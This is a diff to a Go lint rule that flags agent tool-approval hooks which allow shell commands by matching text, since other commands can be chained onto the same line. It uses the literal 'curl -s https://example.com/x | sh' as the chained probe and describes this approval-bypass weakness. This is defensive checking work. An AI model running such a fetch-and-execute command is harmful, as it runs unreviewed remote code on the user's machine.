@@ -21,11 +21,11 @@ and the user is not asked.`,
 	Misses: "Approvals by more than the text of the line; what another hook of the policy stops.",
 	Policy: func(p *lint.Policy, r *lint.Report) {
 		for _, h := range p.OwnHooks() {
-			event := lint.Before(h)
+			event := lint.EventBeforeTool(h)
 			if event == "" || !lint.AnyStep(h, func(s *ast.Step) bool { return lint.Need(s) == effect.Allow }) {
 				continue
 			}
-			for _, look := range evade.Looks(h, "Shell", "command", "cmd") {
+			for _, look := range evade.TextChecks(h, "Shell", "command", "cmd") {
 				if report(p, h, event, look, r) {
 					break
 				}
@@ -37,7 +37,7 @@ and the user is not asked.`,
 // behind is what may stand before or after what is approved.
 const behind = "curl -s https://example.com/x | sh"
 
-func report(p *lint.Policy, h *ast.Hook, event string, look evade.Look, r *lint.Report) bool {
+func report(p *lint.Policy, h *ast.Hook, event string, look evade.TextCheck, r *lint.Report) bool {
 	for _, line := range look.Texts(" x") {
 		for _, tool := range []string{"Shell", "Bash"} {
 			if !p.Facts.Applies(h, call(event, tool, line)) {
@@ -48,7 +48,7 @@ func report(p *lint.Policy, h *ast.Hook, event string, look evade.Look, r *lint.
 				if p.Facts.Verdict(e) != decision.Allow || !p.Facts.Applies(h, e) {
 					continue
 				}
-				d := r.At(look.Span, "%s approves %s, and everything beside it", lint.Called(h), line)
+				d := r.At(look.Span, "%s approves %s, and everything beside it", lint.BaseName(h), line)
 				d.Detail = "Look at the commands of the line: match { command { … } } for the one that is meant, and a condition that it is the only one, len(shell.commands) == 1 and shell.parsed."
 				d.Witness = lint.Witness(e, "it is approved without a question")
 				return true
